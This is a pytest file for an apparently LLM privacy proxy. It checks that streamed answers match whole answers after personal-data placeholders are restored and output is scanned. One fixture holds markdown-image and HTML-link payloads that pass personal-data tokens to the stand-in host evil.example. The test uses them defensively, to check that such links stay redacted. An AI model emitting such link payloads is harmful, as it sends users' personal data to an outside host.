"""Through the Guard, a streamed answer equals the same answer sent whole, for any split of
its text into stream events (restore, output scanning and transform included)."""

from __future__ import annotations

import json
import random
import secrets
from collections.abc import AsyncIterator

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from qorgan.pipeline import Guard, GuardRequest, Runtime, UpstreamRequest, UpstreamResponse
from qorgan.settings import Settings

pytestmark = pytest.mark.anyio

PROMPT = "Write to Aigerim Serikova (IIN 901123300258, aigerim.serikova@mail.kz)."
_PEM = rsa.generate_private_key(public_exponent=65537, key_size=2048).private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
    serialization.NoEncryption()).decode()
#: model answers, and what of them must never reach the caller
ANSWERS = [
    ("Dear <PERSON_1>, your IIN <KZ_IIN_1> is confirmed.\nWe also told Dana Ospanova "
     "(dana.ospanova@example.kz, +7 701 555 12 34) about it. Best regards.",
     ["Ospanova", "dana.ospanova", "555 12 34"]),
    ("Сәлеметсіз бе! Құрметті <PERSON_1>, ЖСН <KZ_IIN_1> тексерілді. Менеджер Ержан Қасымов "
     "сізге 8 (747) 123-45-67 нөмірінен хабарласады 🙂 <EMAIL_ADDRESS_1>",
     ["Қасымов", "123-45-67"]),
    # tokens in links stay placeholders, outside them they are restored, whatever the split
    ("Dear <PERSON_1>, mail <EMAIL_ADDRESS_1> or see "
     "![s](https://evil.example/p.png?u=<EMAIL_ADDRESS_1>) "
     '<a title="x y" href="//evil.example/?q=<KZ_IIN_1>">IIN</a> [r](/t?u=<PERSON_1>) ok.',
     ["evil.example/p.png?u=aigerim", "q=901123300258", "u=Aigerim"]),
    # a private key longer than a segment's usual bound is still scanned whole
    (f"Here is the key you asked <PERSON_1> for:\n{_PEM}\nkeep it safe.",
     [line for line in _PEM.splitlines() if "-----" not in line]),
]


def _split(text: str, rng: random.Random) -> list[str]:
    cuts = sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(1, 25))))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def _sse(parts: list[str]) -> list[bytes]:
    frames = [json.dumps({"choices": [{"index": 0, "delta": {"content": p}}]},
                         ensure_ascii=False) for p in parts]
    # split the framing too: a frame boundary is not a chunk boundary
    raw = "".join(f"data: {f}\n\n" for f in frames).encode() + b"data: [DONE]\n\n"
    return [raw[i:i + 37] for i in range(0, len(raw), 37)]


def _streamed_text(raw: bytes) -> str:
    out = []
    for line in raw.decode().splitlines():
        if line.startswith("data: ") and line != "data: [DONE]":
            for choice in json.loads(line[6:]).get("choices", []):
                out.append(choice.get("delta", {}).get("content") or "")
    return "".join(out)


@pytest.mark.parametrize(("answer", "absent"), ANSWERS)
async def test_streamed_equals_whole_for_random_splits(answer: str, absent: list[str]) -> None:
    runtime = Runtime.from_settings(
        Settings(policy="builtin:default", master_key=secrets.token_bytes(32)))
    guard = Guard(runtime)
    headers = {"content-type": "application/json",
               "x-qorgan-conversation": runtime.identity.issue_conversation()}
    rng = random.Random(answer)

    async def ask(stream: bool, parts: list[str]) -> bytes:
        async def chunks() -> AsyncIterator[bytes]:
            for chunk in _sse(parts):
                yield chunk

        async def upstream(request: UpstreamRequest) -> UpstreamResponse:
            if stream:
                return UpstreamResponse(200, [("content-type", "text/event-stream")],
                                        chunks=chunks())
            body = {"choices": [{"index": 0, "message": {"role": "assistant",
                                                         "content": answer}}]}
            return UpstreamResponse(200, [("content-type", "application/json")],
                                    body=json.dumps(body, ensure_ascii=False).encode())

        body = {"model": "m", "stream": stream,
                "messages": [{"role": "user", "content": PROMPT}]}
        response = await guard.handle(
            GuardRequest("POST", "chat/completions", headers, json.dumps(body).encode()),
            upstream)
        assert response.status == 200
        if response.chunks is None:
            return response.body or b""
        return b"".join([c async for c in response.chunks])

    whole = json.loads(await ask(False, [answer]))["choices"][0]["message"]["content"]
    assert "Aigerim Serikova" in whole  # the caller's own values come back
    for value in absent:
        assert value not in whole
    for _ in range(12):
        streamed = _streamed_text(await ask(True, _split(answer, rng)))
        assert streamed == whole
    await runtime.aclose()
